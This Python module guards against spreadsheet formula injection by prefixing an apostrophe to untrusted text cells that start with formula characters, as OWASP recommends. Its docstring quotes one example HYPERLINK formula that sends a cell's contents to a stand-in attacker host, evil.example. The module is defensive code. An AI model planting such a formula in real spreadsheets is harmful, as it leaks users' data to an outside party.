"""Cells of untrusted text in spreadsheets. A report line or a review comment that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return would be read by Excel or LibreOffice as a formula
(``=HYPERLINK("http://evil.example/?leak="&B2,"x")``); as OWASP recommends for CSV injection, such a cell gets
a leading apostrophe and so stays text. Numbers are written as numbers and never touched."""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def safe(value):
    """``value`` made safe for a spreadsheet cell: text that would start a formula is prefixed with '."""
    return safe_text(value) if isinstance(value, str) else value


def safe_row(values: Iterable) -> list:
    return [safe(v) for v in values]
